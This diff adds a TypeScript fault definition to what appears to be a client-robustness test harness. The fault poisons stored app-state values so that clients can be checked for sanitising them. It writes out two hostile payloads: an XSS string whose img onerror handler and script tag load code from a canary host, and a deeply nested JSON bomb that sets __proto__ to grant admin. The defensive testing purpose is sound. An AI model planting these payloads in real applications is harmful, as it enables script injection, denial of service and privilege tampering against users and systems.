@@ -1,0 +1,52 @@
+import { z } from 'zod'
+import { staysAway } from '../../core/expectation.ts'
+import { defineFault } from '../../core/fault.ts'
+import type { Json, JsonObject } from '../../core/json.ts'
+import { appState } from '../../core/spec.ts'
+
+/** Deep enough that a reader that follows every level by recursion gives in. */
+const LEVELS = 20_000
+
+export const appStatePoisoned = defineFault({
+  name: 'app-state-poisoned',
+  title: 'Stored app state was altered',
+  kind: 'must-not-leak',
+  ids: ['F-295'],
+  spec: appState('security-and-access-controls'),
+  wire: 'Every valueString of queried app state holds script that loads from another host, or JSON that is nested 20,000 levels deep, sets __proto__, and names that host.',
+  client: 'Check and sanitise what was stored before it is used: run nothing, load nothing, follow no link.',
+  steps: ['app-state'],
+  when: { method: 'GET' },
+  params: () =>
+    z.strictObject({
+      with: z.enum(['script', 'json-bomb']).default('script').describe('What the stored value became.'),
+    }),
+  points: {
+    'app-state.answer': (answer, { params, canary }) =>
+      answer.status === 200 && answer.body
+        ? {
+            ...answer,
+            body: everyValue(answer.body as Json, POISONS[params.with](canary.base)) as JsonObject,
+          }
+        : answer,
+  },
+  needs: ['app-state'],
+  expects: staysAway(),
+})
+
+const POISONS = {
+  script: (base: string) =>
+    `<img src="${base}/picture" onerror="fetch('${base}/script')"><script src="${base}/script.js"></script>`,
+  'json-bomb': (base: string) =>
+    `{"__proto__":{"admin":true},"next":"${base}/next","a":${'['.repeat(LEVELS)}${']'.repeat(LEVELS)}}`,
+}
+
+/** The same JSON with that text for every valueString in it. */
+function everyValue(value: Json | undefined, text: string): Json | undefined {
+  if (Array.isArray(value)) return value.map((each: Json) => everyValue(each, text) as Json)
+  if (typeof value !== 'object' || value === null) return value
+  const members = Object.entries(value as JsonObject).map(
+    ([name, member]) => [name, name === 'valueString' ? text : everyValue(member, text)] as const,
+  )
+  return Object.fromEntries(members) as Json
+}
